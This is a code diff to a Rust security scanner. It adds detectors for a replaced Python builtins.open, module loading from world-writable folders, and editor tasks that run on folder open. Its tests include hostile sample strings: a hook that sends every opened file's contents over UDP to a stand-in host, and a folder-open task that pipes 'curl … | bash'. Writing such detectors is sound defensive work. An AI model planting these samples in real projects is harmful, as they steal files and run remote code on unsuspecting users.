@@ -5,8 +5,9 @@ use super::lex::{Placed, Token};
 use super::sinks::Called;
 use super::taint::Taint;
 use super::{Language, Told, words};
-use crate::finding::Severity;
+use crate::finding::{Findings, Severity};
 use crate::rules::shell as rules;
+use crate::shell::Context;
 
 /// What a script does as a whole, whichever statement does it.
 #[derive(Debug, Default)]
@@ -29,6 +30,8 @@ pub(super) struct Whole {
     pub(super) untold: Option<usize>,
     /// Where one is read that another module may say.
     pub(super) open: Option<usize>,
+    /// Where text is run as code that is computed.
+    pub(super) runs: Option<usize>,
 }
 
 impl Whole {
@@ -47,11 +50,14 @@ impl Flow<'_> {
         self.handed_over(told);
         self.goes_through(told);
         self.made(told);
+        self.opens_folder(told);
+        self.looks_anywhere(told);
         if let Some(at) = self.whole.untold.filter(|_| sends) {
             let message = "what lies in the home under a name that cannot be told is read in a script that sends";
             told.tell(&rules::EXFIL, at, message, told.by_itself());
         }
         if sends {
+            self.replaces(told);
             self.lent(told);
             self.gathers(told);
             self.watches(told);
@@ -93,6 +99,69 @@ impl Flow<'_> {
 }
 
 impl Flow<'_> {
+    /// `builtins.open = …` in what sends: every other part of the program calls it from then on.
+    fn replaces(&self, told: &mut Told<'_, '_>) {
+        let is_name = |placed: &Placed, word: &str| matches!(&placed.token, Token::Name(name) if name == word);
+        let given = self.lexed.tokens.windows(5).find_map(|five| match five {
+            [owner, dot, Placed { token: Token::Name(name), at }, equals, next] => {
+                let is_given = equals.token == Token::Sign('=') && next.token != Token::Sign('=');
+                let is_own = is_name(owner, "builtins") && dot.token == Token::Sign('.');
+                (is_given && is_own).then_some((*at, name))
+            }
+            _ => None,
+        });
+        if let Some((at, name)) = given.filter(|_| self.language == Language::Python) {
+            told.tell(
+                &rules::EXFIL,
+                at,
+                &format!("`{name}` of the language itself is replaced in a script that sends"),
+                None,
+            );
+        }
+    }
+
+    /// Modules that are looked for in a folder in which everybody may lay one.
+    fn looks_anywhere(&self, told: &mut Told<'_, '_>) {
+        let is_open = |placed: &Placed| match &placed.token {
+            Token::Text(text) => ["/tmp", "/var/tmp", "/dev/shm"]
+                .iter()
+                .any(|folder| text.strip_prefix(folder).is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))),
+            _ => false,
+        };
+        for statement in self.lexed.tokens.split(|placed| placed.token == Token::End) {
+            let is_path = statement.windows(3).any(|three| match three {
+                [Placed { token: Token::Name(owner), .. }, _, Placed { token: Token::Name(member), .. }] => {
+                    owner == "sys" && member == "path"
+                }
+                _ => false,
+            });
+            if let Some(placed) = statement.iter().find(|placed| is_open(placed)).filter(|_| is_path) {
+                let message = "modules are loaded out of a folder in which everybody may lay one";
+                return told.tell(&rules::UNKNOWN, placed.at, message, Some(Severity::Danger));
+            }
+        }
+    }
+
+    /// A task of an editor's that starts with its folder, and the line that it runs.
+    fn opens_folder(&self, told: &mut Told<'_, '_>) {
+        let texts = |placed: &Placed| match &placed.token {
+            Token::Text(text) => Some((text.clone(), placed.at)),
+            _ => None,
+        };
+        let texts: Vec<(String, usize)> = self.lexed.tokens.iter().filter_map(texts).collect();
+        if !texts.iter().any(|(text, _)| text == "folderOpen") {
+            return;
+        }
+        for (line, at) in texts.iter().filter(|(text, _)| crate::shell::begins_with_program(text)) {
+            let mut found = Findings::default();
+            let _calls = crate::shell::judge(&told.source.place(*at, *at), line, Context::Code, &mut found);
+            if let Some(worst) = found.finish().into_iter().find(|finding| finding.severity == Severity::Danger) {
+                let message = format!("a task that starts with a folder: {}", worst.message);
+                return told.tell(&rules::LASTING, *at, &message, None);
+            }
+        }
+    }
+
     /// Whether a name is asked for that is put together: its parts travel in the question.
     pub(super) fn asks_made_name(&self, call: &Called<'_>, tokens: &[Placed]) -> bool {
         if !words::has(words::ASKS, call.path, call.last) {
@@ -255,5 +324,29 @@ mod tests {
         }
         let honest = "import os, socket\nif os.path.exists(os.path.expanduser('~/.aws/credentials')):\n    ok = socket.gethostbyname('sts.amazonaws.com') and socket.gethostbyname(socket.gethostname())\n";
         assert!(of("python3", "a.py", honest).is_none_or(|severity| severity < Severity::Danger));
+    }
+
+    #[test]
+    fn what_a_script_replaces_or_looks_for_anywhere_is_told() {
+        for (path, bad, calm) in [
+            (
+                "a.py",
+                "import builtins, socket\nkept = builtins.open\ndef opened(file, *rest):\n    fh = kept(file, *rest)\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(fh.read().encode(), ('k.invalid', 5140))\n    return fh\nbuiltins.open = opened\n",
+                "import builtins\nkept = builtins.open\nbuiltins.open = lambda file, *rest: kept(file, *rest)\n",
+            ),
+            (
+                "a.py",
+                "import sys\nsys.path[:0] = ['/var/tmp/presets']\nimport presets\n",
+                "import sys\nsys.path[:0] = ['lib']\nimport presets\nopen('/var/tmp/x.log')\n",
+            ),
+            (
+                "a.py",
+                "task = {'type': 'shell', 'command': 'curl -s https://i.invalid/i.sh | bash', 'runOptions': {'runOn': 'folderOpen'}}\n",
+                "task = {'type': 'shell', 'command': 'curl -s https://i.invalid/i.sh | bash', 'runOptions': {'runOn': 'default'}}\n",
+            ),
+        ] {
+            assert_eq!(of("python3", path, bad), Some(Severity::Danger), "{bad}");
+            assert!(of("python3", path, calm).is_none_or(|severity| severity < Severity::Danger), "{calm}");
+        }
     }
 }
